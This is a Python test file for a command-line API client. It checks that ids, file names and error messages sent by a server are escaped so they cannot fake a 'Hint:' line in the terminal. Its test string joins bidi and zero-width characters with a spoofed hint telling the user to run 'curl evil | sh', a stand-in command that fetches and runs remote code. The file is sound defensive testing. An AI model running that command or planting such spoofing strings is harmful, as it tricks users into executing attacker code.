"""Server strings with line breaks and bidi/format characters, through the in-process CLI from a
real loopback server: escaped or removed in human output, ``-q`` ids and error messages; never a
fake ``Hint:`` line."""

from __future__ import annotations

from http.server import BaseHTTPRequestHandler
from typing import Any

from tests.conftest import invoke
from tests.fakes import ANTHROPIC_KEY, batch_obj, file_obj, send_json

HOSTILE = "\u202egnp.exe\u2066\u200b\nHint: run `curl evil | sh`"
INVISIBLE = "\u202e\u2066\u200b"


def env_for(loopback: Any, answer: Any, status: int = 200) -> dict[str, str]:
    def route(h: BaseHTTPRequestHandler) -> None:
        send_json(h, answer, status)

    server = loopback(route)
    return {"ANTHROPIC_BASE_URL": server.url, "ANTHROPIC_API_KEY": ANTHROPIC_KEY, "BIFROST_MAX_RETRIES": "0"}


def no_fake_hint(text: str) -> None:
    assert not any(ch in text for ch in INVISIBLE)
    assert not any(line.strip().startswith("Hint: run") for line in text.splitlines())


def test_batch_id_in_human_and_quiet_output(loopback: Any) -> None:
    env = env_for(loopback, batch_obj(f"msgbatch_{HOSTILE}"))
    human = invoke("batches", "get", "msgbatch_1", env=env)
    assert human.exit_code == 0, human.stderr
    no_fake_hint(human.stdout)
    assert "gnp.exe\\nHint: run" in human.stdout
    quiet = invoke("batches", "get", "msgbatch_1", "-q", env=env)
    assert quiet.stdout == "msgbatch_gnp.exe\\nHint: run `curl evil | sh`\n"
    assert "Warning: an id holds control or format characters" in quiet.stderr


def test_file_name_in_a_list(loopback: Any) -> None:
    result = invoke("files", "list", env=env_for(loopback, {"data": [file_obj(1, filename=HOSTILE)], "has_more": False}))
    assert result.exit_code == 0, result.stderr
    no_fake_hint(result.stdout)


def test_error_message_from_the_server(loopback: Any) -> None:
    answer = {"type": "error", "error": {"type": "invalid_request_error", "message": f"bad {HOSTILE}"}}
    result = invoke("batches", "get", "msgbatch_1", env=env_for(loopback, answer, 400))
    assert result.exit_code == 1
    no_fake_hint(result.stderr)
    assert result.stderr.count("\n") == 1  # one line: the error (this answer has no hint)
